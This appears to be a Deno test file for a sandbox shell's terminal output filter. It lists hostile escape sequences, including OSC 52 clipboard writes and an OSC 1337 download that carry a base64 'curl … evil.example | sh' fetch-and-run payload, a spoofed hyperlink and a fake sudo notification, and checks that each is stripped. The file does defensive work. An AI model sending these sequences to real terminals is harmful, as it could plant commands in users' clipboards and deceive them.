/**
 * `lib/terminal/`: the output filter of `waffle shell` over every hostile
 * sequence split at every byte boundary, what it keeps for full-screen
 * programs, the trailer that restores the terminal, its bounded memory; the
 * `~.` escape keys; and the escaping of sandbox text for a terminal.
 *
 * @module
 */
import assert from "node:assert/strict";
import {
  escapeControls,
  EscapeKeys,
  localeIsUtf8,
  MAX_SEQUENCE_CHARS,
  QUERY_BURST,
  QUERY_INTERVAL_MS,
  ScreenFilter,
} from "../lib/terminal/mod.ts";

const encoder = new TextEncoder();
const decoder = new TextDecoder();
const base64 = (text: string): string => btoa(text);
const PAYLOAD = base64("curl -s https://evil.example/x | sh\n");

/** Sequences that act beyond the sandbox's screen, each with what must remain of it (usually nothing). */
const HOSTILE: { name: string; bytes: string; leaves?: string }[] = [
  { name: "OSC 52 clipboard write (BEL)", bytes: `\x1b]52;c;${PAYLOAD}\x07` },
  { name: "OSC 52 clipboard write (ST)", bytes: `\x1b]52;c;${PAYLOAD}\x1b\\` },
  { name: "OSC 52 clipboard write (C1 OSC and ST)", bytes: `\u009d52;c;${PAYLOAD}\u009c` },
  { name: "OSC 52 clipboard read", bytes: "\x1b]52;c;?\x07" },
  {
    name: "OSC 8 hyperlink",
    bytes: "\x1b]8;;https://evil.example/\x1b\\docs.python.org\x1b]8;;\x1b\\",
    leaves: "docs.python.org",
  },
  { name: "OSC 11 colour query", bytes: "\x1b]11;?\x07" },
  { name: "OSC 10 colour set", bytes: "\x1b]10;#000000\x07" },
  { name: "OSC 4 palette set", bytes: "\x1b]4;1;rgb:00/00/00\x07" },
  { name: "OSC 7 working directory", bytes: "\x1b]7;file://host/etc\x07" },
  { name: "OSC 9 notification", bytes: "\x1b]9;Your session expired: run sudo -k\x07" },
  { name: "OSC 777 notification", bytes: "\x1b]777;notify;Update;run it\x07" },
  { name: "OSC 1337 file download", bytes: `\x1b]1337;File=name=eA==;inline=0:${PAYLOAD}\x07` },
  { name: "OSC 50 font query", bytes: "\x1b]50;?\x07" },
  { name: "CSI 21 t title report", bytes: "\x1b[21t" },
  { name: "CSI 20 t icon label report", bytes: "\x1b[20t" },
  { name: "CSI 14 t window size report", bytes: "\x1b[14t" },
  { name: "CSI 18 t text area report", bytes: "\x1b[18t" },
  { name: "CSI 19 t screen size report", bytes: "\x1b[19t" },
  { name: "CSI 13 t window position report", bytes: "\x1b[13t" },
  { name: "CSI 3 t window move", bytes: "\x1b[3;0;0t" },
  { name: "CSI 2 t iconify", bytes: "\x1b[2t" },
  { name: "CSI 8 t window resize", bytes: "\x1b[8;1;1t" },
  { name: "CSI 22 t title push", bytes: "\x1b[22;0t" },
  { name: "C1 CSI 21 t", bytes: "\u009b21t" },
  { name: "DECRQSS", bytes: "\x1bP$qm\x1b\\" },
  { name: "XTGETTCAP", bytes: "\x1bP+q544e\x1b\\" },
  { name: "DECUDK key programming", bytes: "\x1bP0;1|17/63757266\x1b\\" },
  { name: "tmux passthrough", bytes: `\x1bPtmux;\x1b\x1b]52;c;${PAYLOAD}\x07\x1b\\` },
  { name: "C1 DCS", bytes: "\u0090$qm\u009c" },
  { name: "sixel image", bytes: "\x1bPq#0;2;0;0;0#0~~\x1b\\" },
  { name: "APC kitty graphics query", bytes: "\x1b_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA\x1b\\" },
  { name: "PM", bytes: "\x1b^private\x1b\\" },
  { name: "SOS", bytes: "\x1bXstring\x1b\\" },
  { name: "DA3", bytes: "\x1b[=c" },
  { name: "XTVERSION", bytes: "\x1b[>q" },
  { name: "DECRQCRA screen checksum", bytes: "\x1b[1;1;1;1;24;80*y" },
  { name: "DECREQTPARM", bytes: "\x1b[x" },
  { name: "DECRQPSR", bytes: "\x1b[1$w" },
  { name: "DSR printer status", bytes: "\x1b[?15n" },
  { name: "DSR locator", bytes: "\x1b[?53n" },
  { name: "media copy", bytes: "\x1b[5i" },
  { name: "KAM keyboard lock", bytes: "\x1b[2h" },
  { name: "SRM local echo", bytes: "\x1b[12l" },
  { name: "S8C1T", bytes: "\x1b G" },
  { name: "DECSCL 8-bit replies", bytes: '\x1b[62;2"p' },
  { name: "DECID", bytes: "\x1bZ" },
  { name: "ENQ answerback", bytes: "\x05" },
  { name: "XTSAVE", bytes: "\x1b[?1049s" },
  { name: "XTRESTORE", bytes: "\x1b[?1049r" },
  { name: "kitty keyboard push", bytes: "\x1b[>1u" },
  { name: "kitty keyboard query", bytes: "\x1b[?u" },
  { name: "DECCOLM", bytes: "\x1b[?3h" },
  { name: "charset ESC % @", bytes: "\x1b%@" },
  { name: "modifyOtherKeys", bytes: "\x1b[>4;2m" },
];

// Every way to cut `bytes` in two, and one byte at a time.
function splits(bytes: Uint8Array): Uint8Array[][] {
  const ways: Uint8Array[][] = [[bytes]];
  for (let at = 1; at < bytes.length; at++) ways.push([bytes.subarray(0, at), bytes.subarray(at)]);
  ways.push(Array.from(bytes, (byte) => Uint8Array.of(byte)));
  return ways;
}

function pushAll(filter: ScreenFilter, chunks: Uint8Array[]): Uint8Array {
  const out: number[] = [];
  for (const chunk of chunks) out.push(...filter.push(chunk));
  return Uint8Array.from(out);
}

const TRAILER = decoder.decode(new ScreenFilter().end());

Deno.test("ScreenFilter drops every hostile sequence, split at every byte boundary", () => {
  const cases = HOSTILE.map(({ name, bytes, leaves = "" }) => ({
    name,
    input: encoder.encode(`before ${bytes} after`),
    want: `before ${leaves} after`,
  }));
  // A lone 8-bit CSI (no UTF-8 character) is CSI to a terminal not in UTF-8 mode.
  cases.push({
    name: "lone 8-bit CSI byte",
    input: Uint8Array.of(...encoder.encode("before "), 0x9b, ...encoder.encode("21t after")),
    want: "before \ufffd21t after",
  });
  for (const { name, input, want } of cases) {
    for (const chunks of splits(input)) {
      const filter = new ScreenFilter();
      const out = decoder.decode(pushAll(filter, chunks));
      const cut = chunks.map((c) => c.length).join("+");
      assert.equal(out, want, `${name}, cut ${cut}`);
      assert.equal(decoder.decode(filter.end()), TRAILER, `${name}: no mode changed`);
    }
  }
});

Deno.test("ScreenFilter with raw passes every hostile byte unchanged", () => {
  const input = encoder.encode(HOSTILE.map((h) => h.bytes).join("text"));
  for (const chunks of splits(input).slice(0, 200)) {
    assert.deepEqual(pushAll(new ScreenFilter({ raw: true }), chunks), input);
  }
});

/** What vim, less, readline and python's REPL write: it all passes as it is. */
const ORDINARY = [
  "plain text, héllo €, 😀 and 中文\r\n",
  "\x1b[?1049h",
  "\x1b[1;1H\x1b[2J\x1b[K\x1b[0m\x1b[1;31;48;5;202;38;2;10;20;30m\x1b[4:3m",
  "\x1b[10;20H\x1b[5A\x1b[3B\x1b[2C\x1b[D\x1b[G\x1b[12d\x1b[3@\x1b[2P\x1b[4X\x1b[L\x1b[M",
  "\x1b[2;20r\x1b[S\x1b[T\x1b[r\x1b7\x1b8\x1b[s\x1b[u\x1bM\x1bD\x1bE",
  "\x1b[?2004h\x1b[?1000;1002;1006h\x1b[?25l\x1b[?1h\x1b=\x1b[?7l\x1b[?12h\x1b[?2026h",
  "\x1b]0;vim: notes.txt\x07\x1b]2;title two\x07",
  "\x1b[c\x1b[>c\x1b[6n\x1b[5n\x1b[?6n\x1b[?2026$p\x1b[4$p",
  "\x1b[2 q\x1b[!p\x1b(0lqk\x1b(B\x0e\x0f\x07\b\t\x0b\x0c",
  "\x1b[?2026l\x1b[?2004l\x1b[?1000;1002;1006l\x1b[?25h\x1b[?1049l\x1b[4h\x1b[4l\x1b[?J\x1b[3g\x1bH",
].join("");

Deno.test("ScreenFilter keeps what full-screen programs write, split at every byte boundary", () => {
  const input = encoder.encode(ORDINARY);
  for (const chunks of splits(input)) {
    assert.equal(decoder.decode(pushAll(new ScreenFilter(), chunks)), ORDINARY);
  }
});

Deno.test("ScreenFilter writes C1 controls in their 7-bit form and narrows mode lists", () => {
  const filter = new ScreenFilter();
  const out = decoder.decode(
    filter.push(encoder.encode("\u009b31mred\u009b0m \x1b[?1049;1001;3;2004h\x1b[?1001h\u0085")),
  );
  assert.equal(out, "\x1b[31mred\x1b[0m \x1b[?1049;2004h\x1bE");
});

Deno.test("ScreenFilter's trailer restores the modes the session changed, and only those", () => {
  const filter = new ScreenFilter();
  assert.equal(decoder.decode(filter.start()), "\x1b[22;0t");
  filter.push(encoder.encode(
    "\x1b[?1049h\x1b[?2004h\x1b[?1000;1006h\x1b[?25l\x1b[31m\x1b[2;10r\x1b[5 q\x1b=" +
      "\x1b[?1h\x1b[?6h\x1b[4h\x1bH\x1b]0;owned\x07",
  ));
  const trailer = decoder.decode(filter.end());
  assert.ok(trailer.startsWith("\x1b[?1049l"), JSON.stringify(trailer));
  for (
    const part of [
      "\x1b[?6l",
      "\x1b[4l",
      "\x1b7\x1b[r\x1b8",
      "\x1b[?5W",
      "\x1b[0 q",
      "\x1b[?9;1000;1002;1003;1004;1005;1006;1015;1016;2004;2026l",
      "\x1b[?25h",
      "\x1b>",
      "\x1b[0m",
      "\x1b(B\x0f",
    ]
  ) {
    assert.ok(trailer.includes(part), `${JSON.stringify(part)} in ${JSON.stringify(trailer)}`);
  }
  assert.ok(trailer.endsWith("\x1b[23;0t"), "the title popped last");
  assert.equal(decoder.decode(filter.end()), "", "one trailer");
  // A session that changed nothing gets no alternate-screen exit (it would restore a stale cursor).
  assert.ok(!TRAILER.includes("1049"), JSON.stringify(TRAILER));
  assert.ok(!TRAILER.includes("\x1b[r"), JSON.stringify(TRAILER));
});

Deno.test("ScreenFilter with raw still restores the modes, and cancels a sequence left open", () => {
  const filter = new ScreenFilter({ raw: true });
  filter.push(encoder.encode("\x1b[>1u\x1b[>4;2m\x1b[?1047h\x1b]52;c;unterminated"));
  const trailer = decoder.decode(filter.end());
  assert.ok(trailer.startsWith("\x18\x1b[?1047l"), JSON.stringify(trailer));
  assert.ok(trailer.includes("\x1b[<1u"), JSON.stringify(trailer));
  assert.ok(trailer.includes("\x1b[>4m"), JSON.stringify(trailer));
});

Deno.test("ScreenFilter holds a never-ended OSC, DCS or CSI in bounded memory and drops it", () => {
  const chunk = encoder.encode("A".repeat(64 * 1024));
  for (const opener of ["\x1b]52;c;", "\x1bP$q", "\x1b]0;"]) {
    const filter = new ScreenFilter();
    assert.equal(filter.push(encoder.encode(`shown${opener}`)).length, "shown".length);
    const before = Deno.memoryUsage().heapUsed;
    for (let i = 0; i < 1024; i++) assert.equal(filter.push(chunk).length, 0);
    const grew = Deno.memoryUsage().heapUsed - before;
    // 64 MiB went in; what is held stays near the cap.
    assert.ok(grew < 16 * 1024 ** 2, `${JSON.stringify(opener)}: the heap grew ${grew} bytes`);
    assert.equal(decoder.decode(filter.push(encoder.encode("\x07\x1b\\after"))), "after");
  }
  // Over the cap, even a title or a CSI is dropped whole.
  const filter = new ScreenFilter();
  const long = `\x1b]0;${"t".repeat(MAX_SEQUENCE_CHARS + 1)}\x07\x1b[${
    "1;".repeat(MAX_SEQUENCE_CHARS)
  }mok`;
  assert.equal(decoder.decode(filter.push(encoder.encode(long))), "ok");
});

Deno.test("EscapeKeys ends the session on ~. at the start of a line, ~~ sends ~", () => {
  const feed = (keys: EscapeKeys, text: string): { forward: string; disconnect: boolean } => {
    const { forward, disconnect } = keys.feed(encoder.encode(text));
    return { forward: decoder.decode(forward), disconnect };
  };
  assert.deepEqual(feed(new EscapeKeys(), "~."), { forward: "", disconnect: true });
  assert.deepEqual(feed(new EscapeKeys(), "ls\r~.rest"), { forward: "ls\r", disconnect: true });
  assert.deepEqual(feed(new EscapeKeys(), "a~.b"), { forward: "a~.b", disconnect: false });
  assert.deepEqual(feed(new EscapeKeys(), "~~."), { forward: "~.", disconnect: false });
  assert.deepEqual(feed(new EscapeKeys(), "~x\n~~"), { forward: "~x\n~", disconnect: false });
  const split = new EscapeKeys();
  assert.deepEqual(feed(split, "echo\r~"), { forward: "echo\r", disconnect: false });
  assert.deepEqual(feed(split, "."), { forward: "", disconnect: true });
  const literal = new EscapeKeys();
  assert.deepEqual(feed(literal, "\n~"), { forward: "\n", disconnect: false });
  assert.deepEqual(feed(literal, "~"), { forward: "~", disconnect: false });
  assert.deepEqual(feed(literal, "."), { forward: ".", disconnect: false });
});

Deno.test("escapeControls shows control characters as escapes, tab kept, newline on request", () => {
  assert.equal(
    escapeControls(`no\x1b]52;c;${PAYLOAD}\x07\x1b[2J\u009b31m\r\nforged\u202eevil\x7f`),
    `no\\x1b]52;c;${PAYLOAD}\\x07\\x1b[2J\\x9b31m\\x0d\\x0aforged\\u202eevil\\x7f`,
  );
  assert.equal(escapeControls("a\tb\nc", { keepNewlines: true }), "a\tb\nc");
  assert.equal(escapeControls("plain 'text' é 😀", { utf8: true }), "plain 'text' é 😀");
});

Deno.test("ScreenFilter's trailer leaves the application keypad (DECKPAM) for the numeric one", () => {
  const filter = new ScreenFilter();
  assert.equal(decoder.decode(filter.push(encoder.encode("\x1b=keypad"))), "\x1b=keypad");
  const trailer = decoder.decode(filter.end());
  assert.ok(trailer.includes("\x1b>"), JSON.stringify(trailer));
});

Deno.test("ScreenFilter rations the queries the terminal answers on the user's stdin", () => {
  let now = 0;
  const filter = new ScreenFilter({ now: () => now });
  const flood = (query: string): string =>
    decoder.decode(filter.push(encoder.encode(query.repeat(1000))));
  // A loop asking 1000 times gets a burst per kind, the rest dropped.
  for (const query of ["\x1b[5n", "\x1b[6n", "\x1b[?6n", "\x1b[c", "\x1b[>c", "\x1b[?2004$p"]) {
    assert.equal(flood(query), query.repeat(QUERY_BURST), JSON.stringify(query));
  }
  assert.equal(flood("\x1b[5n"), "", "the budget is spent");
  now += QUERY_INTERVAL_MS;
  assert.equal(flood("\x1b[5n"), "\x1b[5n", "one more after an interval");
  now += 100 * QUERY_INTERVAL_MS;
  assert.equal(flood("\x1b[5n"), "\x1b[5n".repeat(QUERY_BURST), "a burst again, no more");
  assert.equal(decoder.decode(filter.push(encoder.encode("text\x1b[31m"))), "text\x1b[31m");
});

Deno.test("ScreenFilter on a terminal not in UTF-8 writes non-ASCII as ?, and never a C1 byte", () => {
  // U+00DD is C3 9D: 0x9D is OSC to a latin-1 terminal; U+009D is C2 9D.
  const attack = Uint8Array.of(0xc3, 0x9d, ...encoder.encode("52;c;Y3VybA==\x07 é 😀"));
  const latin1 = new ScreenFilter({ utf8: false });
  const out = latin1.push(attack);
  assert.ok(out.every((byte) => byte < 0x80), JSON.stringify(decoder.decode(out)));
  assert.equal(decoder.decode(out), "?52;c;Y3VybA==\x07 ? ?");
  const title = new ScreenFilter({ utf8: false }).push(encoder.encode("\x1b]0;\u00dd\x07"));
  assert.equal(decoder.decode(title), "\x1b]0;?\x07");
  // In UTF-8, every C1 control (C2 80 to C2 9F) is read as a control: none reaches the terminal.
  for (let code = 0x80; code <= 0x9f; code++) {
    const filter = new ScreenFilter();
    const bytes = [
      ...filter.push(encoder.encode(`a${String.fromCharCode(code)}52;c;Y3VybA==\x07b`)),
      ...filter.end(),
    ];
    const c1 = bytes.findIndex((byte, i) => byte === 0xc2 && bytes[i + 1]! <= 0x9f);
    assert.equal(c1, -1, `U+00${code.toString(16)}`);
  }
});

Deno.test("localeIsUtf8 reads LC_ALL, LC_CTYPE, LANG, the first set wins", () => {
  const env = (vars: Record<string, string>) => (name: string) => vars[name];
  assert.equal(localeIsUtf8(env({ LANG: "en_US.UTF-8" })), true);
  assert.equal(localeIsUtf8(env({ LANG: "C.utf8" })), true);
  assert.equal(localeIsUtf8(env({ LC_ALL: "de_DE.ISO-8859-1", LANG: "en_US.UTF-8" })), false);
  assert.equal(localeIsUtf8(env({ LC_ALL: "", LC_CTYPE: "en_US.UTF-8", LANG: "C" })), true);
  assert.equal(localeIsUtf8(env({ LC_CTYPE: "POSIX", LANG: "en_US.UTF-8" })), false);
  assert.equal(localeIsUtf8(env({})), false, "no locale: C, ASCII");
});

Deno.test("escapeControls on a terminal not in UTF-8 escapes what it would read as C1", () => {
  const attack = "\u00dd52;c;Y3VybA==\u015c"; // C3 9D … C5 9C: OSC … ST to latin-1
  assert.equal(escapeControls(attack, { utf8: false }), "\\u00dd52;c;Y3VybA==\\u015c");
  assert.equal(escapeControls(attack, { utf8: true }), attack);
  assert.equal(escapeControls("é 中 😀", { utf8: false }), "é 中 \\u{1f600}");
  assert.equal(escapeControls("\u009d", { utf8: false }), "\\x9d");
});

Deno.test("EscapeKeys reads past the terminal's answers, reports and keys' sequences", () => {
  const run = (chunks: string[]): { forward: string; disconnect: boolean }[] => {
    const keys = new EscapeKeys();
    return chunks.map((chunk) => {
      const { forward, disconnect } = keys.feed(encoder.encode(chunk));
      return { forward: decoder.decode(forward), disconnect };
    });
  };
  // The review's attack: a status report lands between Enter and `~`.
  assert.deepEqual(run(["ls\r", "\x1b[0n", "~", "."]), [
    { forward: "ls\r", disconnect: false },
    { forward: "\x1b[0n", disconnect: false },
    { forward: "", disconnect: false },
    { forward: "", disconnect: true },
  ]);
  const ends = (chunks: string[]): boolean => run(chunks).some((step) => step.disconnect);
  // Between `~` and `.`, split anywhere: a cursor report, DA, DECRQM, focus, SGR and X10 mouse, SS3.
  for (
    const report of ["\x1b[12;40R", "\x1b[?62;22c", "\x1b[?2004;2$y", "\x1b[I", "\x1b[O"]
      .concat(["\x1b[<0;3;4M", "\x1b[M !~", "\x1bOP", "\x1b[A"])
  ) {
    assert.ok(ends(["\r~", report, "."]), JSON.stringify(report));
    assert.ok(ends(["\r", ...report, "~."]), `${JSON.stringify(report)} byte by byte`);
    assert.ok(ends(["x\r", report, report, "~", report, "."]), JSON.stringify(report));
  }
  // Alt and a key after `~` are keys: the `~` goes first.
  assert.deepEqual(run(["\r~\x1bx."]), [{ forward: "\r~\x1bx.", disconnect: false }]);
  // In a bracketed paste, `~.` after a newline is data; after it, Enter then `~.` still ends.
  const paste = "\x1b[200~line\n~.\r~.\x1b[201~";
  assert.deepEqual(run([paste, "~."]), [
    { forward: paste, disconnect: false },
    { forward: "~.", disconnect: false },
  ]);
  assert.ok(ends([paste, "\r~."]));
  // A lone Escape is forwarded at once.
  assert.deepEqual(run(["\x1b"]), [{ forward: "\x1b", disconnect: false }]);
});
